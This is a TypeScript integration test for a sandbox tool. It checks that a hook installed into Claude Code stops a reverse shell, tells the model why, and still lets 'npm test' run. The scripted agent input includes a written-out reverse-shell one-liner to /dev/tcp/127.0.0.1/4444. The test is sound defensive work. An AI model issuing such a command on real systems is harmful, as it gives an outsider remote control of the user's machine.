import { execFileSync } from 'node:child_process'
import { cp, mkdir } from 'node:fs/promises'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { claudeCodeAgent } from '#agents/claude-code/agent.ts'
import { NOTHING_SPENT } from '#contract/budget.ts'
import { createGateway } from '#gateway/create-gateway.ts'
import type { Gateway } from '#gateway/gateway.ts'
import { createPrices } from '#gateway/prices.ts'
import { stageGuestRuntime } from '#sandbox/guest-runtime.ts'
import { DEFAULT_LIMITS } from '#sandbox/limits.ts'
import { packageClosure } from '#sandbox/package-closure.ts'
import { taskCommand } from '#sandbox/task-command.ts'
import { GRANT } from '#test/agents/guest-run.ts'
import { runSpec, specOf } from '#test/port-suites/sandbox-specs.ts'
import { type BubblewrapRig, bubblewrapRig, HOST_USER } from '#test/sandbox/bubblewrap-rig.ts'
import { agentMount } from '#test/support/agent-packages.ts'
import { AGENT_SCRIPTS } from '#test/support/agent-scripts.ts'
import { type JourneyModel, startJourneyModel } from '#test/support/journey-model.ts'
import { registryObstacle } from '#test/support/npm-project.ts'

const ROOT = resolve(import.meta.dirname, '../..')
const MODEL = 'claude-sonnet-4-5'
/** What the command line loads before it knows its command, and what the command guard needs. */
const PACKAGES = [
  '@bomb.sh/tab',
  '@clack/prompts',
  '@sigstore/core',
  'canonicalize',
  'commander',
  'eventsource-parser',
  'picomatch',
  'unbash',
  'yaml',
  'zod',
]

const obstacle = await registryObstacle()

describe.skipIf(obstacle !== undefined)(
  `the hook of the real Claude Code${obstacle === undefined ? '' : `: ${obstacle}`}`,
  () => {
    let rig: BubblewrapRig
    let model: JourneyModel
    let gateway: Gateway
    let lane: string
    beforeAll(async () => {
      rig = await bubblewrapRig()
      model = await startJourneyModel()
      gateway = createGateway({
        stopwatch: () => performance.now(),
        clock: Date.now,
        prices: createPrices({ clock: Date.now }),
        ...(HOST_USER === undefined ? {} : { sandboxGroup: HOST_USER.gid }),
      })
      lane = join(rig.root, 'lane')
      await gateway.open({
        attempt: 'att_1',
        directory: lane,
        provider: {
          name: 'scripted',
          protocol: 'anthropic',
          baseUrl: model.url,
          key: 'sk-held-by-the-gateway',
          models: [],
        },
        model: MODEL,
        budget: GRANT.budget,
        spent: NOTHING_SPENT,
        egress: [],
        onEvent: () => {},
      })
    }, 240_000)
    afterAll(async () => {
      await gateway?.close()
      await model?.close()
      await rig?.close()
    })

    test('stops a reverse shell, with a reason that the model is told, and lets npm test through', async () => {
      const script = AGENT_SCRIPTS['claude-code']
      if (script === undefined) throw new Error('Claude Code has a script')
      model.play(MODEL, [
        script.shell('touch shell-began; bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'),
        script.shell('npm test'),
      ])
      const workspace = await rig.directory()
      const manifest = '{"scripts":{"test":"touch tests-ran"}}'
      execFileSync('sh', ['-c', 'printf %s "$1" > "$0/package.json"', workspace, manifest])
      if (HOST_USER) execFileSync('chown', ['-R', `${HOST_USER.uid}:${HOST_USER.gid}`, workspace])
      const runtime = await stageGuestRuntime({
        root: ROOT,
        runtimeDirectory: rig.options.runtimeDirectory,
        node: process.execPath,
      })
      const plan = claudeCodeAgent.plan(
        { intent: 'Try two things.', grant: GRANT },
        { provider: 'scripted', protocol: 'anthropic', name: MODEL },
      )
      const install = `${runtime.node} /opt/airlock/checkout/src/main.ts hook claude-code --install --user --yes`
      const mounts = [
        ...plan.mounts,
        await agentMount('claude-code'),
        { source: await checkout(rig.root), target: '/opt/airlock/checkout' },
      ]
      const { ending, stderr } = await runSpec(
        rig.driver,
        specOf(workspace, ['true'], {
          ...taskCommand(
            'run',
            runtime,
            ['/bin/sh', '-c', `${install} >&2 && exec "$@"`, 'sh', ...plan.command],
            {
              environment: plan.environment,
              mounts,
            },
          ),
          socketDirectory: lane,
          limits: { ...DEFAULT_LIMITS, seconds: 120 },
          input: Buffer.from(plan.input),
        }),
      )
      expect({ cause: ending.cause, exitCode: ending.exitCode, stderr }).toMatchObject({
        cause: 'exited',
        exitCode: 0,
      })
      const left = execFileSync('ls', [workspace]).toString().trim().split('\n')
      expect(left).toEqual(['package.json', 'tests-ran'])
      const told = JSON.stringify(model.requests().at(-1)?.body)
      expect(told).toContain('network connection')
    })

    /** The sources and what they import, where the account of the sandbox can read them. */
    async function checkout(directory: string): Promise<string> {
      const place = join(directory, 'checkout')
      await mkdir(place)
      await cp(join(ROOT, 'package.json'), join(place, 'package.json'))
      await cp(join(ROOT, 'src'), join(place, 'src'), { recursive: true })
      for (const { path } of await packageClosure(ROOT, PACKAGES))
        await cp(join(ROOT, path), join(place, path), { recursive: true })
      return place
    }
  },
)
